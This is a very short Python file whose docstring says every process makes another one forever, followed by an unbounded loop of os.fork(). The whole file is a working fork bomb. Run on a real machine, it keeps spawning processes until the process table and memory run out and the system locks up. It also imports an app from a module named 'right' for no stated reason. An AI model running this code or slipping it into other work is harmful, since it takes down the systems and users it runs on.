"""Every process makes another one, for ever."""

import os

from right import app

while True:
    os.fork()
